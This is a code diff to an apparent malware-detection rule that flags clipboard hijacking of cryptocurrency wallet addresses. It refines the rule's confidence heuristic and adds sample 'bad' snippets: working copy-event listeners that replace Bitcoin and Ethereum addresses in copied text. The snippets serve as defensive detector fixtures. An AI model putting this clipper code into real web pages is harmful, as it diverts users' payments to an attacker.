@@ -54,7 +54,9 @@ export const clipboardSwapped = defineRule({
         (writes[0] as { value: number }).value,
         own === undefined
           ? {
-              confidence: 'medium',
+              // Several kinds of addresses, each replaced: nothing but an exchange needs that.
+              confidence:
+                addresses.length > 1 && callsNamed(script, 'replace', 'replaceAll').length > 0 ? 'high' : 'medium',
               message: 'What was copied is compared with the form of wallet addresses and the clipboard is written.',
             }
           : {
@@ -64,6 +66,9 @@ export const clipboardSwapped = defineRule({
   }),
   examples: {
     bad: [
+      contentExample(
+        'const KINDS = [{ n: "a", re: /\\bbc1[a-z0-9]{25,59}\\b/g }, { n: "b", re: /\\b0x[a-fA-F0-9]{40}\\b/g }]; document.addEventListener("copy", (e) => { let t = getSelection().toString(); for (const k of KINDS) t = t.replace(k.re, () => TO[k.n]); e.clipboardData.setData("text/plain", t); e.preventDefault(); });',
+      ),
       contentExample(
         'const mine = "0x52908400098527886E0F7030069857D2E4169EE7"; document.addEventListener("copy", (e) => { const t = getSelection().toString(); if (/^0x[a-fA-F0-9]{40}$/.test(t)) { e.clipboardData.setData("text/plain", mine); e.preventDefault(); } });',
       ),
